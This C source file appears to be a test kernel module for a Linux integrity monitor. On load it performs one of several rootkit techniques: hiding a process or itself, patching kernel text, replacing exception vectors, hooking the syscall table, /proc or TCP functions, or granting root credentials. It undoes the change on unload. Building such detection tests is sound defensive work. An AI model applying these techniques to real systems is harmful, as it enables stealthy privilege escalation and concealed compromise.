// SPDX-License-Identifier: GPL-2.0
/*
 * A kernel module that attacks its own Linux, as a rootkit would, for a watcher to find out:
 * `insmod intruder.ko what=… pid=N`. It undoes all when it is unloaded, unless somebody else did.
 *
 *   list     takes the process out of the task list
 *   tree     takes the process's number out of the PID tree, so that /proc doesn't have it any more
 *   text     changes an instruction of kernel text, through a second mapping of its page
 *   vectors  gives the CPU that it runs on another table of exception vectors
 *   call     has a system call lead to a function of this module
 *   hide     takes this module out of the list of modules, for ten seconds
 *   proc     has the listing of /proc lead to a function of this module
 *   tcp      does what `hide` does, and has a function of TCP lead to this module meanwhile
 *   cred     gives the process the credentials of the kernel's first task
 *   nothing  does nothing
 *
 * tests/system/test_watching.py, test_rules.py and test_mending.py use it.
 */
#include <asm/cacheflush.h>
#include <asm/memory.h>
#include <asm/sysreg.h>
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <net/tcp.h>

#define INTRUDER_NOP 0xd503201fu

static char *intruder_what = "nothing";
module_param_named(what, intruder_what, charp, 0);
MODULE_PARM_DESC(what, "the attack");

static int intruder_pid;
module_param_named(pid, intruder_pid, int, 0);
MODULE_PARM_DESC(pid, "whom it is about");

static struct pid *intruder_number;
static struct task_struct *intruder_task;
static u32 intruder_word;    /* the instruction that was in kernel text */
static bool intruder_undone; /* by somebody else */

/* ---- tasks: masked interrupts keep this CPU from forking; other CPUs aren't kept from it ---- */

static int intruder_find(void)
{
	intruder_number = find_get_pid(intruder_pid);
	intruder_task = intruder_number ? get_pid_task(intruder_number, PIDTYPE_TGID) : NULL;
	return intruder_task ? 0 : -ESRCH;
}

static int intruder_list(void)
{
	if (intruder_find())
		return -ESRCH;
	local_irq_disable();
	__list_del_entry(&intruder_task->tasks);
	local_irq_enable();
	return 0;
}

static bool intruder_is_listed(void)
{
	struct task_struct *task;
	bool listed = false;

	rcu_read_lock();
	for_each_process(task) listed |= task == intruder_task;
	rcu_read_unlock();
	return listed;
}

static void intruder_list_undo(void)
{
	intruder_undone = intruder_is_listed();
	if (intruder_undone)
		return;
	local_irq_disable();
	list_add_tail(&intruder_task->tasks, &init_task.tasks);
	local_irq_enable();
}

static int intruder_tree(void)
{
	if (intruder_find())
		return -ESRCH;
	idr_remove(&init_pid_ns.idr, intruder_pid);
	return 0;
}

static void intruder_tree_undo(void)
{
	if (idr_alloc(&init_pid_ns.idr, intruder_number, intruder_pid, intruder_pid + 1,
	              GFP_KERNEL) < 0)
		pr_err("intruder: the number is somebody else's now\n");
}

/* ---- text: the first instruction of panic(), which isn't called ---- */

/* Writes into the kernel's image, whatever its own mapping allows. */
static int intruder_write(unsigned long at, const void *from, size_t size)
{
	struct page *page = pfn_to_page(PHYS_PFN(at - kimage_voffset));
	u8 *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!map)
		return -ENOMEM;
	memcpy(map + offset_in_page(at), from, size);
	vunmap(map);
	return 0;
}

static int intruder_text(void)
{
	const u32 nop = INTRUDER_NOP;

	intruder_word = *(u32 *)panic;
	return intruder_write((unsigned long)panic, &nop, sizeof(nop));
}

static void intruder_text_undo(void)
{
	intruder_undone = *(u32 *)panic == intruder_word;
	if (!intruder_undone)
		(void)intruder_write((unsigned long)panic, &intruder_word, sizeof(intruder_word));
}

/* ---- vectors: each entry of the table goes on to the kernel's own ---- */

#define INTRUDER_ENTRIES 16
#define INTRUDER_ENTRY   128 /* bytes */
#define INTRUDER_BRANCH  0x14000000u
#define INTRUDER_REACH   (128l << 20)

extern u8 intruder_table[];
asm(".pushsection .text\n"
    "	.balign 2048\n"
    "intruder_table:\n"
    "	.rept 16\n"
    "	nop\n"
    "	.balign 128\n"
    "	.endr\n"
    ".popsection\n");

static unsigned long intruder_vbar; /* the kernel's own value */
static int intruder_cpu;

static int intruder_fill(void)
{
	const long far = (long)(intruder_vbar - (unsigned long)intruder_table);
	struct page *page = vmalloc_to_page(intruder_table);
	u8 *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	int i;

	if (!map || far >= INTRUDER_REACH || far < -INTRUDER_REACH)
		return -ENOMEM;
	for (i = 0; i < INTRUDER_ENTRIES; i++)
		*(u32 *)(map + offset_in_page(intruder_table) + i * INTRUDER_ENTRY) =
		    INTRUDER_BRANCH | ((u32)(far >> 2) & 0x3ffffff);
	caches_clean_inval_pou((unsigned long)intruder_table,
	                       (unsigned long)intruder_table + INTRUDER_ENTRIES * INTRUDER_ENTRY);
	vunmap(map);
	return 0;
}

static long intruder_set(void *vbar)
{
	write_sysreg((unsigned long)vbar, vbar_el1);
	isb();
	return 0;
}

static int intruder_vectors(void)
{
	intruder_vbar = read_sysreg(vbar_el1);
	intruder_cpu = raw_smp_processor_id();
	if (intruder_fill())
		return -ENOMEM;
	return (int)work_on_cpu(intruder_cpu, intruder_set, intruder_table);
}

static void intruder_vectors_undo(void)
{
	(void)work_on_cpu(intruder_cpu, intruder_set, (void *)intruder_vbar);
}

/* ---- tables of functions: an entry leads to a function of this module, which calls the former
 * ---- */

static unsigned long intruder_entry; /* where it stands */
static void *intruder_former;

static int intruder_hook(unsigned long entry, void *function)
{
	intruder_entry = entry;
	intruder_former = *(void **)entry;
	return intruder_write(entry, &function, sizeof(function));
}

static void intruder_hook_undo(void)
{
	(void)intruder_write(intruder_entry, &intruder_former, sizeof(intruder_former));
}

/* A probe that isn't armed knows where a function is, and changes no text. */
static unsigned long intruder_function(const char *name)
{
	struct kprobe probe = {.symbol_name = name, .flags = KPROBE_FLAG_DISABLED};
	unsigned long at;

	if (register_kprobe(&probe))
		return 0;
	at = (unsigned long)probe.addr;
	unregister_kprobe(&probe);
	return at;
}

#define INTRUDER_CALL  178         /* gettid */
#define INTRUDER_CALLS (8ul << 20) /* behind text: there the table is looked for */

static long intruder_called(const struct pt_regs *regs)
{
	return ((long (*)(const struct pt_regs *))intruder_former)(regs);
}

static int intruder_call(void)
{
	const unsigned long first = intruder_function("__arm64_sys_io_setup");
	const unsigned long second = intruder_function("__arm64_sys_io_destroy");
	const unsigned long *at = (unsigned long *)PAGE_ALIGN((unsigned long)panic);
	unsigned long i;

	if (!first || !second)
		return -ENOENT;
	for (i = 0; i < INTRUDER_CALLS / sizeof(*at); i++)
		if (at[i] == first && at[i + 1] == second)
			return intruder_hook((unsigned long)&at[i + INTRUDER_CALL],
			                     intruder_called);
	return -ENOENT;
}

static int intruder_listed(struct file *file, struct dir_context *context)
{
	return ((int (*)(struct file *, struct dir_context *))intruder_former)(file, context);
}

static int intruder_proc(void)
{
	struct file *proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
	int error;

	if (IS_ERR(proc))
		return PTR_ERR(proc);
	error = intruder_hook((unsigned long)&proc->f_op->iterate_shared, intruder_listed);
	filp_close(proc, NULL);
	return error;
}

/* ---- this module: nobody can unload what isn't in the list, so it comes back by itself ---- */

#define INTRUDER_HIDDEN (10 * HZ)

static struct list_head *intruder_before; /* this module in the list */

static void intruder_show(struct work_struct *work)
{
	if (intruder_entry)
		intruder_hook_undo();
	list_add_rcu(&THIS_MODULE->list, intruder_before);
	pr_alert("intruder: it is in the list again\n");
}

static DECLARE_DELAYED_WORK(intruder_shown, intruder_show);

static int intruder_hide(void)
{
	intruder_before = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	schedule_delayed_work(&intruder_shown, INTRUDER_HIDDEN);
	return 0;
}

static void intruder_hide_undo(void)
{
	(void)flush_delayed_work(&intruder_shown);
}

static void intruder_kept_alive(struct sock *sock, int value)
{
	((void (*)(struct sock *, int))intruder_former)(sock, value);
}

static int intruder_tcp(void)
{
	const int error = intruder_hook((unsigned long)&tcp_prot.keepalive, intruder_kept_alive);

	return error ? error : intruder_hide();
}

/* ---- credentials ---- */

static const struct cred *intruder_cred;

static int intruder_give(void)
{
	if (intruder_find())
		return -ESRCH;
	intruder_cred = intruder_task->cred;
	get_cred(init_task.cred);
	get_cred(init_task.cred);
	rcu_assign_pointer(intruder_task->real_cred, init_task.cred);
	rcu_assign_pointer(intruder_task->cred, init_task.cred);
	return 0;
}

static void intruder_give_undo(void)
{
	rcu_assign_pointer(intruder_task->real_cred, intruder_cred);
	rcu_assign_pointer(intruder_task->cred, intruder_cred);
	put_cred(init_task.cred);
	put_cred(init_task.cred);
}

static int intruder_nothing(void)
{
	return 0;
}

static void intruder_nothing_undo(void)
{
}

/* ---- all of them ---- */

static const struct {
	const char *name;
	int (*attack)(void);
	void (*undo)(void);
} intruder_attacks[] = {{"list", intruder_list, intruder_list_undo},
                        {"tree", intruder_tree, intruder_tree_undo},
                        {"text", intruder_text, intruder_text_undo},
                        {"vectors", intruder_vectors, intruder_vectors_undo},
                        {"call", intruder_call, intruder_hook_undo},
                        {"hide", intruder_hide, intruder_hide_undo},
                        {"proc", intruder_proc, intruder_hook_undo},
                        {"tcp", intruder_tcp, intruder_hide_undo},
                        {"cred", intruder_give, intruder_give_undo},
                        {"nothing", intruder_nothing, intruder_nothing_undo}};

static int intruder_index = -1;

static int __init intruder_init(void)
{
	int i, error;

	for (i = 0; i < ARRAY_SIZE(intruder_attacks); i++)
		if (!strcmp(intruder_attacks[i].name, intruder_what))
			intruder_index = i;
	if (intruder_index < 0)
		return -EINVAL;
	error = intruder_attacks[intruder_index].attack();
	pr_alert("intruder: %s %s\n", intruder_what, error ? "failed" : "is done");
	return error;
}

static void __exit intruder_exit(void)
{
	intruder_attacks[intruder_index].undo();
	if (intruder_task)
		put_task_struct(intruder_task);
	put_pid(intruder_number);
	pr_alert("intruder: %s is undone%s\n", intruder_what,
	         intruder_undone ? " by somebody else" : "");
}

module_init(intruder_init);
module_exit(intruder_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Attacks its own Linux, for a watcher to find out");
